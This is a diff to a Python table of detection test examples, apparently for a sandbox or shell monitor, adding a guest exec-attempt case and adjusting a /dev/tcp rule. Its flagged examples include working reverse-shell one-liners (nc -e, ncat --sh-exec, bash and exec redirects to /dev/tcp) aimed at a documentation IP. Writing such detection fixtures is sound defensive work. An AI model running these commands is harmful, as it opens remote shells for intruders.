@@ -9,7 +9,7 @@ from __future__ import annotations
 
 from collections.abc import Callable
 
-from corral.events import Event
+from corral.events import Event, ExecAction
 
 from .helpers import Feed
 
@@ -176,10 +176,22 @@ EXAMPLES: dict[str, tuple[list[Example], list[Example]]] = {
         ["nc -e /bin/sh 203.0.113.7 4444", "ncat --sh-exec 'bash -i' 203.0.113.7 443"],
         ["nc -zv localhost 5432", "nc -lvp 4444"],
     ),
+    "exec-guest-process-attempt": (
+        [
+            lambda f: [
+                f.event(
+                    action=ExecAction(argv=["curl", "http://x"]),
+                    data={"source": "python-guest", "reported": True, "attempt": True},
+                )
+            ],
+        ],
+        [lambda f: [f.exec("curl", "http://x")]],
+    ),
     "tunnel-reverse-shell-devtcp": (
         [
             "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
-            "0<&196;exec 196<>/dev/tcp/203.0.113.7/4242; sh <&196 >&196 2>&196",
+            # (the corral shell cannot parse ``196<>file``: such a line is refused live)
+            "exec 196</dev/tcp/203.0.113.7/4242; sh <&196 >&196 2>&196",
         ],
         ["timeout 1 bash -c '</dev/tcp/localhost/5432'"],
     ),
